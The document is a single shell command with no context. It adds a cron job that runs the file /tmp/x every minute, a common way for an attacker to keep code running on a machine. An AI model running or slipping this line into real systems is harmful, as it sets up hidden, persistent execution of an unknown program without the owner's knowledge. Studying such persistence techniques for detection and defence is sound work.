(crontab -l; echo '* * * * * /tmp/x') | crontab -
